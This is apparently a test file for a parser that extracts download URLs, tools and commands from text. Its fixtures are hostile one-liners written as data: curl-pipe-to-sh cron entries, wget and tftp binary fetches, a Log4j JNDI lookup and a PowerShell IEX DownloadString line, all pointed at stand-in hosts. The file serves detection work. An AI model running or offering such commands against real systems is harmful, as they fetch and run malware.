// biome-ignore-all lint/suspicious/noTemplateCurlyInString: Log4j look-ups and shell variables
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { commandsIn, downloadsIn, urlsIn } from './downloads.ts'

test('finds what a dropper would fetch, and with what', () => {
  assert.deepEqual(downloadsIn('\n\n*/1 * * * * root curl -fsSL http://192.0.2.9/a.sh | sh\n\n'), [
    { url: 'http://192.0.2.9/a.sh', tool: 'curl' },
  ])
  assert.deepEqual(downloadsIn('cd /tmp; wget "ftp://198.51.100.4:21/x86";chmod +x x86'), [
    { url: 'ftp://198.51.100.4:21/x86', tool: 'wget' },
  ])
  assert.deepEqual(downloadsIn('see https://www.example.com/page.'), [
    { url: 'https://www.example.com/page', tool: 'url' },
  ])
  assert.deepEqual(downloadsIn('http:// nothing'), [])
})

test('the tool is the nearest before, and files may be named without a URL', () => {
  const table: [text: string, ...found: [url: string, tool: string][]][] = [
    [
      'wget http://192.0.2.1/a -O x; curl -O http://192.0.2.1/b',
      ['http://192.0.2.1/a', 'wget'],
      ['http://192.0.2.1/b', 'curl'],
    ],
    ['wget -q 192.0.2.1/mips', ['http://192.0.2.1/mips', 'wget']],
    ['busybox tftp -g -r bin.arm 192.0.2.9', ['tftp://192.0.2.9/bin.arm', 'tftp']],
    ['tftp 192.0.2.9 -c get t.sh', ['tftp://192.0.2.9/t.sh', 'tftp']],
    ['ftpget -v -u a -p a -P 21 192.0.2.9 f.sh g.sh', ['ftp://192.0.2.9/g.sh', 'ftpget']],
    ['${jndi:ldap://192.0.2.1:1389/x}', ['ldap://192.0.2.1:1389/x', 'jndi']],
    [
      `IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a.ps1')`,
      ['http://192.0.2.1/a.ps1', 'downloadstring'],
    ],
    ['stratum+tcp://pool.example:3333'],
  ]
  for (const [text, ...found] of table)
    assert.deepEqual(
      downloadsIn(text),
      found.map(([url, tool]) => ({ url, tool })),
      text,
    )
  assert.deepEqual(urlsIn('stratum+tcp://pool.example:3333 and ssh://h.example'), [
    'stratum+tcp://pool.example:3333',
    'ssh://h.example',
  ])
  assert.deepEqual(commandsIn('cd /tmp; sudo wget http://192.0.2.1/a && echo wget'), ['sudo wget http://192.0.2.1/a'])
})

test('is bounded in number and time', () => {
  assert.equal(downloadsIn('http://192.0.2.1/a '.repeat(1000)).length, 1)
  assert.equal(downloadsIn(Array.from({ length: 1000 }, (_, i) => `http://192.0.2.1/${i}`).join(' ')).length, 32)
  for (const piece of ['http://', 'http://192.0.2.1/a ', 'wget ', 'tftp -r a ', 'ftpget -u a ', '${jndi:', 'busybox '])
    for (const look of [downloadsIn, urlsIn, commandsIn]) look(piece.repeat(100_000))
})
